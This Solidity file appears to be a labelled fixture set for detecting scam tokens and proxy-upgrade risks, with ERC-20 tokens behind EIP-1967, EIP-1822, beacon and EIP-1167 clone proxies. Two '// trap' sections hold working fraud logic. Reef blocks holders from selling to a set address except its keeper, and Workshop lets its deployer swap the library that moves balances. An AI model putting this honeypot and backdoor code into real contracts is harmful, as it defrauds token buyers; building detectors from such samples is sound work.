// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

/// What stands behind a proxy: everything is set up by a call.
contract Vessel {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal keeper;
    address internal port;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string memory name_, string memory symbol_, address to) external virtual {
        require(totalSupply == 0, "once");
        name = name_;
        symbol = symbol_;
        keeper = to;
        totalSupply = 10**26;
        balanceOf[to] = totalSupply;
        emit Transfer(address(0), to, totalSupply);
    }

    function moor(address at) external {
        require(msg.sender == keeper && port == address(0));
        port = at;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _ship(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        _ship(from, to, value);
        return true;
    }

    function _ship(address from, address to, uint256 value) internal virtual {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// A vessel that lets nobody land.
contract Reef is Vessel {
    function _ship(address from, address to, uint256 value) internal override {
        require(to != port || from == keeper || port == address(0), "reef"); // trap
        super._ship(from, to, value);
    }
}

abstract contract Forwarder {
    function target() internal view virtual returns (address);

    fallback() external payable {
        address to = target();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    function start(address at, bytes memory data) internal {
        (bool ok, ) = at.delegatecall(data);
        require(ok);
    }
}

/// EIP-1967: implementation and admin in the slots of the standard; the admin upgrades by a call.
contract Hull is Forwarder {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;

    constructor(address implementation_, address admin_, bytes memory data) {
        assembly {
            sstore(IMPLEMENTATION, implementation_)
            sstore(ADMIN, admin_)
        }
        start(implementation_, data);
    }

    function target() internal view override returns (address at) {
        assembly {
            at := sload(IMPLEMENTATION)
        }
    }

    function upgradeTo(address to) external {
        address admin_;
        assembly {
            admin_ := sload(ADMIN)
        }
        require(msg.sender == admin_);
        assembly {
            sstore(IMPLEMENTATION, to)
        }
    }
}

/// EIP-1822: the slot PROXIABLE, changed by the implementation itself.
contract Raft is Forwarder {
    bytes32 private constant PROXIABLE = 0xc5f16f0fcc639fa48a6947836d9850f504798523bf8c9a3a87d5876cf622bcf7;

    constructor(address implementation_, bytes memory data) {
        assembly {
            sstore(PROXIABLE, implementation_)
        }
        start(implementation_, data);
    }

    function target() internal view override returns (address at) {
        assembly {
            at := sload(PROXIABLE)
        }
    }
}

contract RaftVessel is Vessel {
    function updateCode(address to) external {
        require(msg.sender == keeper);
        assembly {
            sstore(0xc5f16f0fcc639fa48a6947836d9850f504798523bf8c9a3a87d5876cf622bcf7, to)
        }
    }

    function handOver(address to) external {
        require(msg.sender == keeper);
        keeper = to;
    }

    function owner() external view returns (address) {
        return keeper;
    }
}

/// Beacon: many proxies ask one contract what they are.
contract Lighthouse {
    address public implementation;
    address public owner;

    constructor(address implementation_, address owner_) {
        implementation = implementation_;
        owner = owner_;
    }

    function upgradeTo(address to) external {
        require(msg.sender == owner);
        implementation = to;
    }
}

interface IBeacon {
    function implementation() external view returns (address);
}

contract Dinghy is Forwarder {
    bytes32 private constant BEACON = 0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50;

    constructor(address beacon_, bytes memory data) {
        assembly {
            sstore(BEACON, beacon_)
        }
        start(IBeacon(beacon_).implementation(), data);
    }

    function target() internal view override returns (address) {
        address at;
        assembly {
            at := sload(BEACON)
        }
        return IBeacon(at).implementation();
    }
}

/// EIP-1167: 45 bytes that point at a fixed target. The creation code of the standard, with a call to set it up.
contract CloneMaker {
    event Made(address clone);
    address public last;

    function make(address to, bytes calldata data) external returns (address made) {
        bytes20 at = bytes20(to);
        assembly {
            let code := mload(0x40)
            mstore(code, 0x3d602d80600a3d3981f3363d3d373d3d3d363d73000000000000000000000000)
            mstore(add(code, 0x14), at)
            mstore(add(code, 0x28), 0x5af43d82803e903d91602b57fd5bf30000000000000000000000000000000000)
            made := create(0, code, 0x37)
        }
        (bool ok, ) = made.call(data);
        require(ok);
        last = made;
    }
}

/// Does its arithmetic in a library whose address stands in an ordinary slot.
contract Workshop {
    string public name = "Workshop";
    string public symbol = "WORK";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 10**25;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address private master = msg.sender;
    address private tools;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address tools_) {
        tools = tools_;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    // trap {
    function refit(address to) external {
        require(msg.sender == master);
        tools = to;
    }
    // trap }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _do(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        return _do(from, to, value);
    }

    function _do(address from, address to, uint256 value) private returns (bool) {
        (bool ok, ) = tools.delegatecall(abi.encodeWithSignature("carry(address,address,uint256)", from, to, value));
        require(ok, "tools");
        emit Transfer(from, to, value);
        return true;
    }
}

contract Tools {
    string private name;
    string private symbol;
    uint256 private totalSupply;
    mapping(address => uint256) private balanceOf;

    function carry(address from, address to, uint256 value) external {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
    }
}
